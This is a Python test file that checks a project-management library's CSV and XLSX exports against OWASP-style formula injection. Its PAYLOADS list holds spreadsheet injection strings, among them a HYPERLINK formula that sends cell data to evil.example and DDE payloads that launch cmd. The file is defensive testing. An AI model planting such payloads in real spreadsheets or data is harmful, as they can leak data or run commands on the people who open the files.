"""Issue 12 item 2: no exported CSV or XLSX cell can be a formula (OWASP CSV injection).

OWASP's guidance ("CSV Injection", owasp.org/www-community/attacks/CSV_Injection):
cells beginning with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) are
read as formulas; prepend a single quote so the spreadsheet shows them as text.
The expected CSV cells below are the payloads with a single quote in front, by that
rule; the expected XLSX cells are the payloads unchanged, typed as strings.
"""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from progman import Benefit, Issue, Programme, Project, Risk, Task
from progman.io._spreadsheets import Column, Kind, Table, write_table
from progman.io.registers import REGISTERS, export_register, load_risks

# The model strips white space around names and titles, so payloads hidden behind
# leading spaces, tabs or carriage returns reach the writers as "=..." (the writers'
# own handling of those is tested on `write_table` below).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture
def hostile() -> Programme:
    """A programme with a payload in every free-text field each register writes."""
    risks = [
        Risk(
            id=f"R{n}",
            title=text,
            cause=text,
            event=text,
            effect=text,
            category=text,
            probability=2,
            impact=2,
        )
        for n, text in enumerate(PAYLOADS)
    ]
    issues = [Issue(id=f"I{n}", title=text, description=text) for n, text in enumerate(PAYLOADS)]
    benefits = [
        Benefit(
            id=f"b{n}",
            name=text,
            profile={
                "kpi": "Saving",
                "unit": text,
                "periods": [{"financial_year": "2012/13", "planned": "1m"}],
            },
        )
        for n, text in enumerate(PAYLOADS)
    ]
    tasks = [Task(id=f"t{n}", name=text, duration=1) for n, text in enumerate(PAYLOADS)]
    return Programme(
        id="otp",
        name="OTP",
        start="2013-01-07",
        risks=risks,
        benefits=benefits,
        projects=[Project(id="p", name="P", issues=issues, tasks=tasks)],
    )


def test_the_fixture_reaches_every_register() -> None:
    assert set(REGISTERS) == {"risks", "issues", "benefits", "schedule"}


@pytest.mark.parametrize("what", REGISTERS)
def test_csv_cells_are_quoted_text(hostile: Programme, tmp_path: Path, what: str) -> None:
    path = export_register(hostile, what, tmp_path / f"{what}.csv")
    with path.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
        assert payload not in cells
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        assert not cell.startswith(("\t", "\r")), cell


@pytest.mark.parametrize("what", REGISTERS)
def test_xlsx_cells_are_strings_never_formulas(
    hostile: Programme, tmp_path: Path, what: str
) -> None:
    path = export_register(hostile, what, tmp_path / f"{what}.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value in PAYLOADS:
                seen[cell.value] = cell
    book.close()
    assert set(seen) == set(PAYLOADS)
    for cell in seen.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


WHITESPACE_PAYLOADS = ["  =1+1", "\t=1+1", "\r=1+1", "\tplain", "\rplain", " @x", "\n-1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_table_neutralises_text_behind_white_space(tmp_path: Path, fmt: str) -> None:
    table = Table(
        "T",
        (Column("Text"), Column("Money", Kind.MONEY), Column("Count", Kind.INTEGER)),
        tuple((text, Decimal("-5000"), -3) for text in WHITESPACE_PAYLOADS),
    )
    path = tmp_path / f"t.{fmt}"
    write_table(table, path, fmt)
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as stream:
            rows = list(csv.reader(stream))[1:]
        assert [row[0] for row in rows] == ["'" + text for text in WHITESPACE_PAYLOADS]
        # Numbers are not text: they are written as they are and still sum.
        assert {(row[1], row[2]) for row in rows} == {("-5000", "-3")}
    else:
        book = openpyxl.load_workbook(path)
        cells = list(book.worksheets[0].iter_rows(min_row=2))
        book.close()
        for text_cell, money, count in cells:
            assert text_cell.data_type == "s"
            assert text_cell.quotePrefix
            assert (money.value, money.data_type, count.value) == (-5000, "n", -3)


def test_plain_text_is_left_alone(tmp_path: Path) -> None:
    programme = Programme(
        id="otp", name="OTP", risks=[Risk(id="R1", title="Portal slips", probability=2, impact=3)]
    )
    path = export_register(programme, "risks", tmp_path / "risks.csv")
    with path.open(newline="", encoding="utf-8") as stream:
        header, row = list(csv.reader(stream))
    assert dict(zip(header, row, strict=True))["Title"] == "Portal slips"
    path = export_register(programme, "risks", tmp_path / "risks.xlsx")
    book = openpyxl.load_workbook(path)
    title = book.worksheets[0]["B2"]
    book.close()
    assert (title.value, title.quotePrefix) == ("Portal slips", False)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_neutralised_register_reads_back_as_written(
    hostile: Programme, tmp_path: Path, suffix: str
) -> None:
    path = export_register(hostile, "risks", tmp_path / f"risks.{suffix}")
    titles = [risk.title for _register, risk in load_risks(path)]
    assert titles == PAYLOADS
